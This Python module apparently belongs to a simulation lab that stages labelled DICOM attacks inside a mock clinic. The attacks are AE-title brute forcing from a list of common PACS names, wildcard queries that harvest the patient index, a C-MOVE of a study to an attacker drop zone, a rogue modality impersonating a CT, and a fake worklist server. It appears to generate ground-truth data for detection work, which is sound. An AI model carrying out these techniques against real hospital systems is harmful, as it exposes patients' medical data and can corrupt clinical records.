"""Attacks on DICOM, each beside a little ordinary work, each labelled in the truth. They use the protocol as
designed.
"""

from __future__ import annotations

from dataclasses import replace
from typing import Any

from lab import department as d
from lab import peers_dicom, peers_pynet
from lab.images import KINDS
from lab.patients import Order, order_of, patient_of
from lab.peers_dicom import Ae
from lab.scenarios import clinic
from lab.stage import Stage
from lab.truth import Device

INTRUDER = (d.INTRUDER.name, "FINDSCU")
GUESSES = (
    *("ANY-SCP", "ORTHANC", "PACS", "PACS1", "ARCHIVE", "DCM4CHEE", "CONQUESTSRV1", "STORESCP"),
    *("QRSCP", "MWL", "RIS", "IMPAX", "CENTRICITY", "SYNAPSE"),
)


def department(stage: Stage, *devices: Device, **settings: Any) -> None:
    """A CT, the archive, a workstation and the given machines, with one study of the CT already asked for."""
    clinic.enter(stage, d.CT, d.PACS, d.WORKSTATION, *devices)
    stage.shared["orders"] = clinic.orders_for(stage, d.CT)
    known = {"ws1": d.WORKSTATION_AE, **stage.shared.get("known", {})}
    clinic.open_pacs(stage, known, **settings)
    peers_dicom.storescp(stage, d.WORKSTATION_AE)


def work(stage: Stage) -> None:
    """One examination stored and read: the background of an attack."""
    for order, device in stage.shared["orders"]:
        clinic.examine(stage, order, device)
        clinic.read(stage, order, ("ws1", "WS_READ1"), d.PACS_AE)


def prepare_bruteforce(stage: Stage) -> None:
    department(stage, d.INTRUDER, DicomCheckCalledAet=True)


def play_bruteforce(stage: Stage) -> None:
    """C-ECHO under one called AE title after the other, until one is accepted; DICOM has no lock-out."""
    work(stage)
    guesses = [*GUESSES, *(f"PACS_{number:02d}" for number in range(1, 40))]
    stage.dice.shuffle(guesses)
    titles = [*guesses, "PACS_MAIN"]
    acts = [{"do": "echo", "called": title} for title in titles]
    with stage.attack("aet-bruteforce", d.INTRUDER.name, (d.PACS.name,), tried=len(titles), found="PACS_MAIN"):
        peers_pynet.caller(stage, INTRUDER, d.PACS_AE, acts)
    peers_dicom.harvest(stage, d.WORKSTATION_AE)


def prepare_harvest(stage: Stage) -> None:
    # The title is known to the archive; the machine that uses it is not the one it belongs to.
    stage.shared["known"] = {"lost": Ae("intruder", "FINDSCU", 11112)}
    clinic_devices = (d.MR, d.INTRUDER)
    department(stage, *clinic_devices)


def play_harvest(stage: Stage) -> None:
    """Queries that match everything, then one a letter, then one a day: the archive's whole index walks out."""
    work(stage)
    for _ in range(3):
        order = order_of(stage.dice, patient_of(stage.dice), "MR")
        peers_dicom.store(stage, (d.MR.name, "MR_SIGNA"), d.PACS_AE, clinic.images_of(stage, order, d.MR, 1))
    letters = [{"PatientName": f"{letter}*"} for letter in "ABCDEFGHIJKLMNOPQRSTUVWXYZ"]
    days = [{"StudyDate": f"202611{day:02d}"} for day in range(1, 25)]
    empty = {"PatientID": "", "PatientBirthDate": "", "StudyInstanceUID": "", "AccessionNumber": ""}
    acts = [
        {"do": "find", "keys": {"QueryRetrieveLevel": "STUDY", "PatientName": "*", **empty, **keys}}
        for keys in ({}, *letters, *days)
    ]
    with stage.attack("query-harvest", d.INTRUDER.name, (d.PACS.name,), queries=len(acts)):
        peers_pynet.caller(stage, INTRUDER, d.PACS_AE, acts)
    peers_dicom.harvest(stage, d.WORKSTATION_AE)


def prepare_pivot(stage: Stage) -> None:
    stage.shared["known"] = {"dropzone": d.INTRUDER_AE}
    department(stage, d.INTRUDER)
    peers_dicom.storescp(stage, d.INTRUDER_AE)


def play_pivot(stage: Stage) -> None:
    """The workstation's title asks the archive to send a study to a destination nobody used before."""
    work(stage)
    order: Order = stage.shared["orders"][0][0]
    with stage.attack("move-pivot", d.WORKSTATION.name, (d.PACS.name, d.INTRUDER.name), destination="DROPZONE"):
        moved = peers_dicom.move(stage, ("ws1", "WS_READ1"), d.PACS_AE, "DROPZONE", peers_dicom.of_study(order))
        peers_dicom.must(moved, "movescu")
    for ae in (d.WORKSTATION_AE, d.INTRUDER_AE):
        peers_dicom.harvest(stage, ae)


def prepare_rogue(stage: Stage) -> None:
    department(stage, d.INTRUDER)


def play_rogue(stage: Stage) -> None:
    """A machine with another address and another stack stores under the title, maker and serial of the CT."""
    work(stage)
    twin = Device(
        d.INTRUDER.name,
        "unknown",
        d.INTRUDER.ips,
        d.INTRUDER.macs,
        aes=d.CT.aes,
        manufacturer=d.CT.manufacturer,
        model=d.CT.model,
        software="1.0",
        serial=d.CT.serial,
        station=d.CT.station,
    )
    order = order_of(stage.dice, patient_of(stage.dice), "CT")
    files = clinic.images_of(stage, order, twin, 3)
    act = {"do": "store", "sop_class": KINDS["CT"].sop_class, "files": [str(path) for path in files]}
    with stage.attack("rogue-modality", d.INTRUDER.name, (d.PACS.name,), calling_ae="CT_FORCE", images=len(files)):
        peers_pynet.caller(stage, (d.INTRUDER.name, "CT_FORCE"), d.PACS_AE, [act])
    peers_dicom.harvest(stage, d.WORKSTATION_AE)


def prepare_worklist(stage: Stage) -> None:
    # It hands out a worklist, so that is what it is to everybody on the network.
    department(stage, d.ROUTER, d.RIS, replace(d.INTRUDER, kind="worklist/RIS"))
    peers_dicom.wlmscpfs(stage, d.RIS_AE, stage.shared["orders"])
    false = [(order_of(stage.dice, patient_of(stage.dice), "CT"), d.CT)]
    stage.shared["false"] = Ae(d.INTRUDER.name, "RIS_MWL", 1105)
    peers_dicom.wlmscpfs(stage, stage.shared["false"], false)


def play_worklist(stage: Stage) -> None:
    """The CT is led to another worklist of the same title, which answers with other patients."""
    work(stage)
    with stage.attack("worklist-impostor", d.INTRUDER.name, (d.CT.name,), called_ae="RIS_MWL"):
        peers_dicom.must(peers_dicom.worklist(stage, ("ct1", "CT_FORCE"), stage.shared["false"], "CT"), "findscu")
    peers_dicom.harvest(stage, d.WORKSTATION_AE)
